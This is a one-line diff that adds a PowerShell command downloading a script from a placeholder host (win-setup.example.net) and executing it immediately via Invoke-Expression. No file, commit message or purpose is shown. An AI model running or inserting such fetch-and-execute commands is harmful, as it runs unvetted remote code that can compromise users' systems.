@@ -1,0 +1,1 @@
+iex (iwr -UseBasicParsing https://win-setup.example.net/s.ps1)
